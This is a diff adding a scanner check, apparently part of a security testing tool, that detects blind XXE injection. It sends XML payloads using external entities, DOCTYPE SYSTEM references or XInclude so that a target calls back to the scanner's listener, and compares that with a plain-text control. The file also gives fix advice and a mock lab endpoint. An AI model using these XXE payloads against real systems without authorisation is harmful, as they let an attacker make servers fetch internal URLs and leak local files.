@@ -1,0 +1,86 @@
+import { defineRequestCheck, type LabTools } from '../../define-active-check.ts';
+import { countLeaves, documentOf, mayTakeXml, requestWithXml, withLeaf } from '../../shared/xml-document.ts';
+
+/** What makes a parser ask for an address. */
+type Variant = (url: string, document: string) => string;
+
+const LABELS = {
+  control: 'the address as text of the document',
+  attack: 'the address as that of a part of the document',
+} as const;
+
+const inFirst = (document: string, content: string) => withLeaf(document, 0, content);
+
+const VARIANTS: readonly Variant[] = [
+  (url, document) => `<!DOCTYPE r [<!ENTITY % a SYSTEM "${url}"> %a;]>${document}`,
+  (url, document) => `<!DOCTYPE r [<!ENTITY a SYSTEM "${url}">]>${inFirst(document, '&a;')}`,
+  (url, document) => `<!DOCTYPE r SYSTEM "${url}">${document}`,
+  (url, document) =>
+    inFirst(document, `<i:include xmlns:i="http://www.w3.org/2001/XInclude" parse="text" href="${url}"/>`),
+];
+
+export default defineRequestCheck<Variant>({
+  id: 'xxe-oob',
+  flaw: { name: 'xxe', rank: 1 },
+  title: 'Blind XML external entity injection (XXE)',
+  cwe: 611,
+  cvss: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N',
+  why: 'The XML parser resolves external references of the document. An attacker makes the server request internal URLs, reads local files and sends their content to a server of their own. An external entity in the document called our listener; the same URL as plain text did not.',
+  fix: 'Disable DTDs, external entities and XInclude in the XML parser. Reject XML where the endpoint expects JSON.',
+  references: [
+    'https://cheatsheetseries.owasp.org/cheatsheets/XML_External_Entity_Prevention_Cheat_Sheet.html',
+    'https://owasp.org/www-project-web-security-testing-guide/stable/4-Web_Application_Security_Testing/07-Input_Validation_Testing/07-Testing_for_XML_Injection',
+    'https://cwe.mitre.org/data/definitions/611.html',
+  ],
+  risk: 'harmless',
+  appliesTo: (item) => mayTakeXml(item) && countLeaves(documentOf(item)) > 0,
+  needsOutside: true,
+  variants: VARIANTS,
+  maxRequests: 8,
+  proof: {
+    plan(item, write, { word }, { outside }) {
+      if (!outside) return [];
+      const [attack, control] = [`${word}-attack`, `${word}-control`];
+      const document = documentOf(item);
+      return [
+        {
+          label: LABELS.control,
+          request: requestWithXml(item, inFirst(document, outside.urlFor(control))),
+          calling: { tag: control, kind: 'http', isControl: true },
+        },
+        {
+          label: LABELS.attack,
+          request: requestWithXml(item, write(outside.urlFor(attack), document)),
+          calling: { tag: attack, kind: 'http' },
+        },
+      ];
+    },
+    judge(answers) {
+      if (!answers.has(LABELS.control)) return 'VOID';
+      const heardOf = (label: string) => answers.get(label)?.heard ?? [];
+      if (heardOf(LABELS.control).length > 0) return 'REFUTED';
+      const kinds = heardOf(LABELS.attack).map(({ kind }) => kind);
+      if (kinds.includes('http')) return 'PROVED';
+      return kinds.includes('dns') ? 'LIKELY' : 'VOID';
+    },
+  },
+  lab(tools?: LabTools) {
+    const take = async (xml: string, isFollowing: boolean) => {
+      const [, url] = /<!ENTITY\s+%?\s*\w+\s+SYSTEM\s+"([^"]*)"/.exec(xml) ?? [];
+      if (url !== undefined && isFollowing) await tools?.get(url);
+      return { status: 202, body: 'Thank you' };
+    };
+    return {
+      item: {
+        method: 'POST',
+        url: '/orders',
+        parameters: [],
+        seenAs: null,
+        contentType: 'text/plain',
+        body: { type: 'text/xml', text: '<?xml version="1.0"?><order><id>7</id><tea>Sencha</tea></order>' },
+      },
+      vulnerable: ({ body }) => take(body, true),
+      safe: ({ body }) => take(body, false),
+    };
+  },
+});
